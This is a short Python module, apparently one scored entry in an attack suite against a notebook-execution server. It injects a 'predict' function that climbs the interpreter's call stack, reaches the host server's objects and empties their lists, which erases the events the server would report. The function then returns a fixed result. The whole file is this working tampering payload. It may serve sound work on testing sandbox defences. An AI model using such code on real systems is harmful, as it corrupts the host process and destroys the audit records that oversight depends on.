"""Finds the server's object on the stack and deletes the events that would be reported."""

from hostile import put

POINTS = 9


def attack(notebook):
    return put(
        notebook,
        "predict",
        """
def predict(X, w):
    import sys
    frame = sys._getframe()
    while frame is not None:
        child = frame.f_locals.get("self")
        for name, value in vars(child).items() if hasattr(child, "__dict__") else []:
            if isinstance(value, list):
                value.clear()
        frame = frame.f_back
    return [True]
""",
    )
